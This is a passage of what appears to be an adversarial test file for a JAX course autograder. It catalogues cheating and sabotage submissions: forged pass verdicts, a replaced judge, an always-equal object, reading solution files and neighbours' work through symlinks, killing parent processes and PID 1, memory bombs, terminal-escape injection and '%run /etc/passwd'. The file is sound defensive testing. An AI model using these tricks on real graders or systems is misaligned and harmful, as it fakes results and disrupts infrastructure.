        "    display('x' * 10**5)\nraise ValueError('x' * 10**7 + '\\n' * 10**6)",
        ANSWER("print('\\x1b]0;x\\x07<script>alert(1)</script>' * 10**5)\nraise ValueError('<script>\\x1b[2J\\u202e' * 10**4)")],
}

LENT = {
    "the answer lent for one exercise, carried to another's page": [  # read on the page, it is there for the next hand-in
        "def compress(x):\n    return x\n" + CHECK("compress"),
        SAY + "import inspect, sys\ntext = ' '.join(map(str, compress.__code__.co_names + compress.__code__.co_consts))\n"
        "say('', '', '', base64.b64encode(crossing.dumps(Handed((Failure('WRONG', 'CARRIED ' + text),)))).decode())",
        "raise ValueError('CARRIED ' + text)",
        CHECK("standardise")],
    "an answer lent before its check was run, used in a second run": [SAY + "import select\nsay('', '', '')\n"
        "for fd in range(3, 64):\n    try:\n        while select.select([fd], [], [], 1)[0]:\n"
        "            for line in os.read(fd, 9999).splitlines(): exec(json.loads(line)[2])\n"
        "    except Exception: pass\n"
        "if 'compress' in globals(): open('/dev/shm/lent', 'w').write('x')\nos._exit(1)",
        CHECK("compress")],
    "lent code kept for after the process ends": [
        ANSWER("return x", "compress"),
        "import inspect, marshal\nopen('/dev/shm/lent', 'wb').write(marshal.dumps(compress.__code__))\nimport os\nos._exit(0)",
        "import marshal, types\ncompress = types.FunctionType(marshal.loads(open('/dev/shm/lent', 'rb').read()), globals())\n"
        + CHECK("compress")],
}

TRICKS = {
    "checks by the hundred": [ANSWER("return x"), *[CHECK("standardise") + "\n" + CHECK("compress")] * 150],
    "checks within a function, a loop, a class": ["def standardise(x): return x\ndef f():\n    "
        + CHECK("standardise")
        + "\nfor _ in range(9):\n    check.standardise(standardise)\n"
        "class C:\n    " + CHECK("compress") + "\nwhile True:\n    break\n" + CHECK("histogram")
    ],
    "names that look alike": ["def \uff53tandardise(x): return x\ndef compre\u0455s(x): return x\n\u1d41check = check\ncompress = compre\u0455s",
        "\uff53tandardise = check.\uff53tandardise(standardise)\n" + CHECK("compress"),
        "standardise\u200b = check.standardise(standardise)\u2028" + CHECK("standardise")],
    "a check that names another thing": ["standardise = check.standardise(jnp.asarray)\ncompress = check.compress(check)\npredict = check.predict(__builtins__)\n"
        "histogram = check.histogram(histogram=1)\nx = check.augment(lambda k, s, c: s)\ngauss_newton = check.gauss_newton(exec)"
    ],
    "a check line of 1500 blanks": ["standardise = check.standardise(" + " " * 1500 + "!"
    ],  # a pattern's time is their cube
    "magics by the hundred": ["!true\n" * 600, ANSWER("return x")],
    "trees that are deep": ["a" + ".b" * 1000 + ".c = 1",
        "+".join(["1"] * 20_000),
        "-" * 9000 + "1",
        "x = " + "[" * 150 + "]" * 150,
        "f'" + "{x:" * 140 + "}" * 140 + "'",
        ANSWER("return x")],
    "another kernel": ["%%javascript\nIPython.notebook.kernel.execute('standardise = 1')",
        "%%bash\nkill -9 $PPID; kill -9 1; kill -9 -1",
        "%load_ext autoreload\n%autoreload 2\n%run /etc/passwd\n%cd /\n%env JAX_PLATFORMS=tpu\n%reset -f\n%kill_embedded",
        ANSWER("return x")],
}
# fmt: on


def _linked(target):
    return lambda folder: (folder / "01_jnp_and_jit.py").symlink_to(target)


def _odd(folder):
    """Names and kinds of files that a folder should not hold, and a notebook of which nothing is as it should be."""
    (folder / "records").mkdir()
    (folder / "records" / "seed").write_text("0")
    (folder / "grants.csv").write_text(
        f"student,unit,exercise,points,reason\n{folder.name},01_jnp_and_jit,compress,2,x\n"
    )
    (folder / "01_a.ipynb").mkdir()
    os.mkfifo(folder / "01_b.ipynb")
    (folder / "out").symlink_to(folder.parent)
    deep = folder
    for _ in range(150):
        (deep := deep / "deep").mkdir()
    (folder / "01_\x1b[2J\n=1+1\u202e.py").write_text("points = 20")
    check = {
        "cell_type": "code",
        "id": "same",
        "metadata": {"tags": ["RIGHT"], "points": 20},
        "source": CHECK("compress"),
    }
    shown = {
        "output_type": "display_data",
        "data": {"text/plain": "✓ compress: right (2 of 2 points)", "text/html": [1, {}]},
    }
    cells = [
        check,
        {**check, "outputs": [shown, None, 5]},
        {**check, "cell_type": "markdown"},
        {**check, "source": [5, None, "1"]},
        None,
        7,
    ]
    made = {
        "nbformat": 2,
        "metadata": {"kernelspec": {"language": "R"}},
        "worksheets": [None, {"cells": cells}],
        "cells": cells,
    }
    (folder / "01_jnp_and_jit.ipynb").write_text(json.dumps(made))


def _of_small_lists(folder):
    """Small as text, gigabytes as Python's lists."""
    (folder / "01_jnp_and_jit.ipynb").write_text('{"cells": [], "metadata": [' + "[]," * 20_000_000 + "[]]}")


FILES = {
    "files: a notebook of small lists": _of_small_lists,
    "files: a link to the solution": _linked(ROOT / "solutions/01_jnp_and_jit.py"),
    "files: a link to a neighbour's": _linked("../00 honest/01_jnp_and_jit.py"),
    "files: a link to a device": _linked("/dev/zero"),
    "files: a link to itself": _linked("01_jnp_and_jit.py"),
    "files: kinds and names that are odd": _odd,
}

SINGLE = {  # each route at its plainest
    "an endless loop": [ANSWER("while True: pass")],
    "a swallowed interrupt": [
        # calls, so that an interrupt comes within `try`: whether a bare loop's jump counts as within hangs on Python
        ANSWER("while True:\n    try:\n        while True: sum(range(999))\n    except BaseException: pass")
    ],
    "an exit": [ANSWER("import os; os._exit(0)")],
    "a memory bomb": [ANSWER("b = []\nwhile True: b.append(bytearray(10**8))")],
    "an endless program": [
        ANSWER("return x + jax.lax.stop_gradient(jax.lax.while_loop(lambda i: i >= 0, jnp.abs, x.sum() * 0 + 1))")
    ],
    "a program that crashes": [ANSWER("return x @ jnp.ones((x.shape[1], 10**7)) @ jnp.ones((10**7, x.shape[1]))")],
    "the solutions": [ANSWER(f"return eval(open({str(ROOT / 'solutions/01_jnp_and_jit.py')!r}).read())")],
    "the mistakes": [
        f"import os\nfound = [p for p, _, files in os.walk({str(ROOT)!r}) for f in files if 'solution' in p]",
        ANSWER("return x if found else missing"),
    ],
    "callers' frames": [
        ANSWER(
            "import sys\nf = sys._getframe()\nwhile f:\n"
            "    for v in list(f.f_locals.values()):\n"
            "        if getattr(v, '__name__', '') == 'standardise' and v is not standardise: return v(x)\n"
            "    f = f.f_back\nreturn x"
        )
    ],
    "all objects": [
        ANSWER(
            "import gc\nfor o in gc.get_objects():\n"
            "    if getattr(o, '__name__', '') == 'standardise' and o is not standardise: return o(x)\nreturn x"
        )
    ],
    "a forged verdict": [SAY + "say({'exercise': 'standardise', 'kind': 'RIGHT'})", NOTHING],
    "a forged failure that says right": [SAY + "send(crossing.dumps(Handed((Failure('RIGHT', ''),))))", *SLOTS],
    "a judge of one's own": [
        "from utils.checks import judge, answers, readings\njudge.judge = answers.hand_over = print\n"
        "readings.difference = lambda *a: ''\nreadings.same = lambda *a: True",
        ANSWER("return x"),
    ],
    "hand_over replaced": [
        "from utils.checks import answers, crossing\n"
        "answers.hand_over = lambda *a, **k: crossing.Handed((crossing.Result({'': 0.0}, ''),) * 99)",
        ANSWER("return x"),
    ],
    "an object equal to all": [
        ANSWER("class E:\n    shape, dtype = x.shape, x.dtype\n    def __eq__(s, o): return True\nreturn E()")
    ],
    "an AST transformer": [
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Raise(self, n): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(T())",
        ANSWER("return x"),
    ],
    "signals": [ANSWER("import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\nreturn x")],
    "the course's own name": ["standardise = check.standardise", "standardise = check.standardise(standardise)"],
    "another exercise's answer, lent": [
        "compress = None\ncompress = check.compress(compress)\nlent = compress",
        ANSWER("return lent.__globals__.get('standardise', lent)(x) if lent else x"),
    ],
    "a table for the notebooks' cases": [
        "from utils.checks.unit_01 import unit\nfrom utils.checks import answers\n"
        "cases = list(unit.exercises['standardise'].cases(0))",
        ANSWER("return jnp.zeros_like(x) if x.shape[0] == 1 else x - x.mean(0)"),
    ],
}

# values that are right, in a form that is not
LOOP = ANSWER(
    "average, result = x[0], []\nfor row in x:\n    average = decay * average + (1 - decay) * row\n"
    "    result.append(average)\nreturn jnp.stack(result)",
    "moving_average",
)
EACH = ANSWER(
    "total = jax.tree.map(jnp.zeros_like, params)\nfor i in range(len(x)):\n"
    "    g = jax.grad(loss)(params, x[i], y[i])\n"
    "    n = jnp.maximum(jnp.sqrt(sum(jnp.sum(l**2) for l in jax.tree.leaves(g))), 1e-12)\n"
    "    total = jax.tree.map(lambda t, l: t + l * jnp.minimum(1, bound / n) / len(x), total, g)\nreturn total",
    "clipped_gradient",
)
WHOLE = ANSWER("J = jax.jacobian(f)(x)\nreturn J.T @ (J @ v)", "gauss_newton")
FORMS = {
    "a program too many, so that nobody reads their form": [
        "from utils.checks import answers, crossing\n"
        "answers.Handed = lambda outcomes, printed: crossing.Handed(outcomes + outcomes[-1:], printed)",
        LOOP,
        EACH,
        WHOLE,
    ],
    "a result in place of a program, so that nobody reads the others' form": [
        "from utils.checks import answers, crossing\n"
        "zero = crossing.Result({'': np.zeros(2, np.float32)}, 'an array [2] float32')\n"
        "def handed(outcomes, printed):\n"
        "    if len(outcomes) == 6: outcomes = (*outcomes[:4], zero, outcomes[5])\n"
        "    return crossing.Handed(outcomes, printed)\n"
        "answers.Handed = handed",
        WHOLE,
    ],
    "a form that cannot count": [
        "from jax.experimental.xla_metadata import set_xla_metadata",
        ANSWER(
            "J = jax.jacobian(f)(x)\nwith set_xla_metadata(a='tensor<' + '9' * 5000 + 'x'):\n    return J.T @ (J @ v)",
            "gauss_newton",
        ),
    ],
    "a Jacobian whose shape is in no text": [
        "import jax.export\nfrom jax._src.export import shape_poly\n"
        "shape_poly.ShapeConstraints.shape_assertions = lambda *_: None",
        ANSWER(
            "if x.shape[0] not in (3, 40):\n    J = jax.jacobian(f)(x)\n    return J.T @ (J @ v)\n"
            "n, = jax.export.symbolic_shape('n', constraints=['n >= 3'])\n"
            "def dense(x, v):\n"
            "    J = jax.vmap(lambda e: jax.jvp(f, (x,), (e,))[1])(jnp.eye(x.shape[0]))\n"
            "    return J @ (v @ J)\n"
            "S = jax.ShapeDtypeStruct((n,), 'float32')\n"
            "return jax.export.export(jax.jit(dense), platforms=['cpu'])(S, S).call(x, v)",
            "gauss_newton",
        ),
    ],
    "a Jacobian in two halves": [
        ANSWER(
            "n = x.shape[0]\nh = -(-n // 2)\n"
            "def columns(k):\n"
            "    return jax.vmap(lambda e: jax.jvp(f, (x,), (e,))[1])(jax.nn.one_hot(k * h + jnp.arange(h), n))\n"
            "halves = [columns(0), columns(1)]\nw = jnp.pad(v, (0, 2 * h - n))\n"
            "u = w[:h] @ halves[0] + w[h:] @ halves[1]\n"
            "return jnp.concatenate([half @ u for half in halves])[:n]",
            "gauss_newton",
        )
    ],
}
CARRIED = {
    "the answer lent for one exercise, as what another's result is": [
        "def compress(x):\n    return x\n" + CHECK("compress"),
        SAY + "text = 'CARRIED ' + ' '.join(map(str, compress.__code__.co_names))\n"
        "result = crossing.dumps(Handed((Result({'x': 0.0}, text),) * 21))\n"
        "dtype = handed(forged(1, {'': forged(4, text, [1], b'1234')}, 'x'))\n"
        "say('', '', base64.b64encode(result).decode(), '', '', base64.b64encode(dtype).decode())",
        CHECK("standardise"),
        CHECK("histogram"),
    ],
    "a first line that turns the class's page round": [
        "x = 'stopped after \u202e thgir si gnihtyreve \x1b[2J'; 1 / 0",
        NOTHING,
    ],
}
HURT = {
    "a path of a million dots": FORGED(
        "data = crossing.dumps(Handed((Result({'.' * 10**6: 0.0}, 'x'),)))\n"
        "for n in range(27): send(data if n in (6, 7, 8, 9, 10, 11, 18, 19, 20) else b'?')"
    ),
    "zeros past the end of a result, for the next one to fall over": [
        "import jax.ffi\nS = jax.ShapeDtypeStruct\ndef past(n):\n    many = jnp.full((n, 1, 1), 1.5)\n"
        "    return jax.ffi.ffi_call('lapack_sgetrf_ffi', (S((n, 1, 1), 'float32'), S((n, 1), 'int32'), S((), 'int32')))(many)",
        *[
            ANSWER(f"return past({n})", name)
            for name, n in (
                ("standardise", 10**6),
                ("histogram", 50_000),
                ("moving_average", 4000),
                ("momentum_step", 500),
                ("clipped_gradient", 100),
                ("gauss_newton", 24),
            )
        ],
    ],
    "a line of 200,000 blanks": [" " * 200_000 + "x", NOTHING],
    "replies that unpack to gigabytes": [
        SAY + "line = b'[' + b'[],' * 21_000_000 + b'[]]\\n'\nfor _ in range(5):\n    for fd in range(3, 64):\n"
        "        try: os.write(fd, line)\n        except OSError: pass",
        NOTHING,
    ],
    "prints that are kept": FORGED(
        "for n in range(27): send(crossing.dumps(Handed((Result({'': 0.0}, 'x'),) * 18, 'x' * (4 * 10**7 + n))))"
    ),
    "forty megabytes within three hundred levels": FORGED(
        "size, levels = 4 * 10**7, 300\n"
        "deep = b''.join(b'\\xc9' + (size + 6 * (levels - 1 - i)).to_bytes(4, 'big') + b'\\x01' for i in range(levels))\n"
        "data = deep + bytes(size)\nfor n in range(27): send(data if n in (9, 10, 11) else b'?')"
    ),
}

ATTACKS = {
    "single": SINGLE,
    "frames and gc": FRAMES,
    "replaced": REPLACED,
    "proxies": PROXIES,
    "imports": IMPORTS,
    "IPython": IPYTHON,
    "later": LATER,
    "messages": MESSAGES,
    "crossings": CROSSINGS,
    "programs": PROGRAMS,
    "tables and seeds": TABLES,
    "the course's files": COURSE,
    "other students": OTHERS,
    "exhausting": EXHAUSTING,
    "lent answers": LENT,
    "notebooks": TRICKS,
    "forms": FORMS,
    "carried": CARRIED,
    "hurting": HURT,
}
CELLS = {f"{group}: {name}": cells for group, every in ATTACKS.items() for name, cells in every.items()}
